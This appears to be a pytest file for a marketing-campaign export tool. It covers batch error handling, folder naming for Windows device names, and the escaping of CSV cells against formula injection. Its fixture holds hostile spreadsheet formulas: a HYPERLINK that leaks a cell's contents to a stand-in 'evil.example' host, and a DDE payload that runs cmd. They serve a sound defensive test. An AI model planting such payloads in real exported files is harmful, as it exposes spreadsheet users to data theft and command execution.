"""A batch export facing bad data: one broken campaign is refused alone; names and CSV cells stay safe."""

from __future__ import annotations

import copy
import csv
import json
from pathlib import Path
from typing import Any

import pytest

from studio.app import Studio
from studio.export import ExportOptions, export_campaigns
from studio.export.cells import csv_cell
from studio.model.campaign import Campaign

from .conftest import Store
from .test_engine import check_bundle, no_staging_left


def plant_broken(studio: Studio, doc: dict[str, Any], key: str, **message: Any) -> str:
    """Store ``doc`` with es-ES ``message`` fields changed *around* validation (as a direct
    database write would): data the export engine does not anticipate."""
    campaign = Campaign.model_validate(copy.deepcopy(doc) | {"key": key})
    es = campaign.locales["es-ES"]
    changed = es.model_copy(update={"message": es.message.model_copy(update=message)})
    broken = campaign.model_copy(update={"locales": {**campaign.locales, "es-ES": changed}})
    return studio.repository.create(broken, author="marta").key


@pytest.mark.parametrize("jobs", [1, 2], ids=["inline", "workers"])
def test_an_unexpected_error_refuses_that_campaign_and_the_others_export(
    studio: Studio, store: Store, clean_doc: dict[str, Any], tmp_path: Path, jobs: int
) -> None:
    # As found: a line break in the headline (so in the email's Subject header) made the email
    # writer raise ValueError and the whole batch aborted with a traceback.
    first = store(key="primera", channels=["email", "sms"])
    bad = plant_broken(studio, {**clean_doc, "channels": ["email", "sms"]}, "rota", headline="Turrón\nLatte")
    last = store(key="ultima", channels=["email", "sms"])
    out = tmp_path / "out"
    result = export_campaigns(studio, [first, bad, last], ExportOptions(out=out, jobs=jobs))
    assert [key for key, _ in result.exported] == [first, last]
    assert [key for key, _ in result.refused] == [bad]
    [reasons] = [reasons for _, reasons in result.refused]
    assert len(reasons) == 1 and "\n" not in reasons[0] and "Traceback" not in reasons[0]
    # (Once validation refuses line breaks, such a stored row is refused as unreadable instead.)
    assert reasons[0].startswith(("cannot be exported:", "cannot be read:")), reasons
    assert sorted(p.name for p in out.iterdir()) == sorted([first, last])
    for key in (first, last):
        manifest = check_bundle(out / key)
        assert manifest["campaign"]["key"] == key
        assert {"es-ES/email/message.eml", "en-US/sms/messages.csv"} <= {f["path"] for f in manifest["files"]}
    no_staging_left(out)


def test_a_stored_campaign_that_no_longer_reads_is_refused_and_the_others_export(
    studio: Studio, store: Store, clean_doc: dict[str, Any], tmp_path: Path
) -> None:
    # A stored document the model refuses (here: no channel at all) failed `repo.get` for the
    # whole batch before any work, with a pydantic traceback.
    good = store(key="buena", channels=["sms"])
    campaign = Campaign.model_validate(copy.deepcopy(clean_doc) | {"key": "sin-canales"})
    bad = studio.repository.create(campaign.model_copy(update={"channels": []}), author="marta").key
    out = tmp_path / "out"
    for ref in (bad, str(studio.repository.list_campaigns(search=bad)[0].id)):  # by key and by id
        result = export_campaigns(studio, [ref, good], ExportOptions(out=out, overwrite=True, record=False))
        assert [key for key, _ in result.exported] == [good]
        [(key, reasons)] = result.refused
        assert key == bad and reasons[0].startswith("cannot be read:") and "\n" not in reasons[0]
        assert sorted(p.name for p in out.iterdir()) == [good]


def test_export_folders_of_con_and_con_campaign_never_replace_each_other(
    studio: Studio, store: Store, tmp_path: Path
) -> None:
    # As found: `con` (a Windows device name) went to `con-campaign/`, and the campaign whose
    # key is `con-campaign` then to `con-campaign-2/`; exporting `con-campaign` alone with
    # --overwrite replaced the bundle of `con`.
    con = store(key="con", channels=["sms"])
    other = store(key="con-campaign", channels=["sms"])
    out = tmp_path / "out"
    first = export_campaigns(studio, [con, other], ExportOptions(out=out, record=False))
    again = export_campaigns(studio, [other], ExportOptions(out=out, overwrite=True, record=False))
    for key, folder in first.exported:  # each bundle still holds its own campaign
        assert check_bundle(folder)["campaign"]["key"] == key
    assert dict(first.exported) == {con: out / "con_", other: out / "con-campaign"}
    assert again.exported == [(other, out / "con-campaign")]
    assert sorted(p.name for p in out.iterdir()) == ["con-campaign", "con_"]


FORMULAS = {
    # an opt-out, so that only waivable findings stand in the way of the forced export (the SMS
    # opt-out and the Spanish PUBLI notice are NonWaivable: the test exports en-US)
    "sms": '=HYPERLINK("http://evil.example/?leak="&A1,"Ver oferta") Reply STOP',
    "post.x": "-20 % en todo el turrón",
    "post.instagram": "@SUM(1+1)*cmd|' /C calc'!A0",
    "post.facebook": "+34 600 000 000 llama ya",
    "post.linkedin": "\tTabulado",
}


def test_csv_cells_a_spreadsheet_would_run_get_a_quote(studio: Studio, store: Store, tmp_path: Path) -> None:
    # As found: texts starting with = + - @ went into messages.csv / schedule.csv as they were.
    overrides = {channel: {"en-US": {"text": text}} for channel, text in FORMULAS.items()}
    key = store(key="formulas", channels=list(FORMULAS), overrides=overrides)
    out = tmp_path / "out"
    result = export_campaigns(
        studio, [key], ExportOptions(out=out, locales=["en-US"], force_reason="prueba", record=False)
    )
    assert result.exported, result.refused
    with (out / key / "en-US/sms/messages.csv").open(newline="", encoding="utf-8") as handle:
        [sms] = list(csv.DictReader(handle))
    with (out / key / "en-US/social/schedule.csv").open(newline="", encoding="utf-8") as handle:
        posts = {row["network"]: row["text"] for row in csv.DictReader(handle)}
    assert sms["text"] == "'" + FORMULAS["sms"]
    assert sms["segments"].isdigit()  # numbers stay numbers
    assert posts == {
        channel.removeprefix("post."): "'" + text for channel, text in FORMULAS.items() if channel != "sms"
    }
    for text in [sms["text"], *posts.values()]:
        assert not text.startswith(("=", "+", "-", "@", "\t", "\r"))
    # The channel's own text file is what the tool takes: unchanged.
    assert (out / key / "en-US/social/x.txt").read_text("utf-8") == FORMULAS["post.x"] + "\n"
    manifest = json.loads((out / key / "manifest.json").read_text("utf-8"))
    assert manifest["campaign"]["channels"] == list(FORMULAS)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-20 %", "'-20 %"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("20 % -", "20 % -"),
        ("", ""),
        (3, 3),
    ],
)
def test_csv_cell_neutralises_only_formula_starts(value: object, written: object) -> None:
    assert csv_cell(value) == written
